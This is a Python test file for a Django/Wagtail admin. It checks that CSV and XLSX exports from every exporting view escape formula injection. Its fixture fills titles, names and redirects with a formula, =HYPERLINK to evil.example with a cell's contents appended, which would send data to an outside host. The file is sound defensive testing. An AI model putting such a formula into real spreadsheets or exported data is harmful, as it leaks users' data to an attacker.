"""A table that is downloaded runs nothing in a spreadsheet: every view of the admin that can export, both formats."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.urls import NoReverseMatch, get_resolver, reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Locale, Page

from regions.models import GoodPractice, Organisation, Topic
from tests.translations.submitting import submit

pytestmark = pytest.mark.django_db

RUN = '=HYPERLINK("https://evil.example/?"&A1)'
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r")
SHOWN_AS = {  # in these somebody's words stand in a cell
    "wagtailadmin_reports:aging_pages",
    "wagtailadmin_reports:locked_pages",
    "wagtailadmin_reports:site_history",
    "wagtailredirects:index",
    "wagtail_localize:translations_report",
}


def exporting(patterns, namespace=""):
    """The names of all addresses whose view can export."""
    for pattern in patterns:
        if hasattr(pattern, "url_patterns"):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from exporting(pattern.url_patterns, inner)
        elif pattern.name and issubclass(_class_of(pattern.callback), SpreadsheetExportMixin):
            yield namespace + pattern.name


def _class_of(view):
    while hasattr(view, "__wrapped__") and not hasattr(view, "view_class"):
        view = view.__wrapped__
    return getattr(view, "view_class", object)


def addresses():
    found = {}
    for name in exporting(get_resolver().url_patterns):
        try:
            found[name] = reverse(name)
        except NoReverseMatch:
            continue  # the list of one object: the class is the same
    return found


@pytest.fixture
def hostile(site, admin_user):
    """Whatever people may write is a formula."""
    site.post.title = site.post.draft_title = RUN
    site.post.locked, site.post.locked_by = True, admin_user
    site.post.save_revision(user=admin_user, log_action=True).publish(user=admin_user)
    Page.objects.update(title=RUN, draft_title=RUN)
    for model, field in ((GoodPractice, "title"), (Organisation, "name"), (Topic, "name"), (Group, "name")):
        model.objects.filter(pk__in=model.objects.values("pk")[:1]).update(**{field: RUN})
    Redirect.objects.create(old_path=RUN, redirect_link=RUN)
    submit(site.post, Locale.objects.get_or_create(language_code="fr")[0].language_code)
    admin_user.first_name = RUN
    admin_user.save()


def cells_of_csv(response):
    text = b"".join(response.streaming_content).decode()
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_no_table_is_run_by_the_spreadsheet_that_opens_it(hostile, admin_client):
    found, told = addresses(), set()
    assert found.keys() >= SHOWN_AS
    for name, address in found.items():
        response = admin_client.get(address, {"export": "csv"})
        if response.headers["Content-Type"] != "text/csv":
            continue  # a list that offers no export
        cells = cells_of_csv(response)
        assert [cell for cell in cells if cell.startswith(BEGINNINGS)] == [], name
        if any(RUN in cell for cell in cells):
            told.add(name)
    assert told >= SHOWN_AS


def test_a_workbook_holds_the_same_words_as_text(hostile, admin_client, site):
    Page.objects.filter(pk=site.home.pk).update(title="A \x0b line", draft_title="A \x0b line", latest_revision=None)
    told = set()
    for name, address in addresses().items():
        response = admin_client.get(address, {"export": "xlsx"})
        if "spreadsheetml" not in response.headers["Content-Type"]:
            continue
        sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert [cell.value for cell in cells if cell.data_type == "f"] == [], name
        if any(cell.value == RUN for cell in cells):
            told.add(name)
    assert told >= SHOWN_AS
